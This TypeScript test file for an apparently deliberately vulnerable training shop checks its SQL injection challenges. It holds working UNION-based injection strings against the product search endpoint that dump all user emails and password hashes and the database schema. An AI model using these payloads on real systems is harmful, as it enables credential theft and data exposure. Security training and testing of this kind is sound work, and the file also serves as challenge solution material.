import request from 'supertest'
import { beforeEach, describe, expect, it } from 'vitest'
import { createTestShop, type TestShop } from '../../testing/test-app'

let shop: TestShop
beforeEach(() => {
  shop = createTestShop()
})

const search = (q: string) => request(shop.app).get('/rest/products/search').query({ q })
const solved = (key: 'unionSqlInjectionChallenge' | 'dbSchemaChallenge') => shop.ctx.training.isSolved(key)

describe('unionSqlInjectionChallenge', () => {
  it('is solved by a UNION of every email and password hash', async () => {
    const response = await search("qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users--")
    expect(response.status).toBe(200)
    const users = shop.ctx.db.prepare('SELECT id, email, password FROM Users').all() as { id: number; email: string; password: string }[]
    expect(response.body.data).toEqual(
      expect.arrayContaining(users.map(({ id, email, password }) => expect.objectContaining({ id, name: email, description: password }))),
    )
    expect(solved('unionSqlInjectionChallenge')).toBe(true)
    expect(solved('dbSchemaChallenge')).toBe(false)
  })

  it('is not solved by a plain search', async () => {
    expect((await search('apple')).status).toBe(200)
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })

  it('is not solved by a UNION that leaks only some users', async () => {
    await search("qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users WHERE id < 3--")
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })
})

describe('dbSchemaChallenge', () => {
  it('is solved by a UNION of the whole sqlite_master', async () => {
    const response = await search("qwert')) UNION SELECT sql,'2','3','4','5','6','7','8','9' FROM sqlite_master--")
    expect(response.status).toBe(200)
    const ids: unknown[] = response.body.data.map((row: { id: unknown }) => row.id)
    expect(ids.some((id) => typeof id === 'string' && id.startsWith('CREATE TABLE Users'))).toBe(true)
    expect(solved('dbSchemaChallenge')).toBe(true)
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })

  it('is not solved by a plain search or by revealing deleted products', async () => {
    await search('apple')
    await search("'))--")
    expect(solved('dbSchemaChallenge')).toBe(false)
  })
})
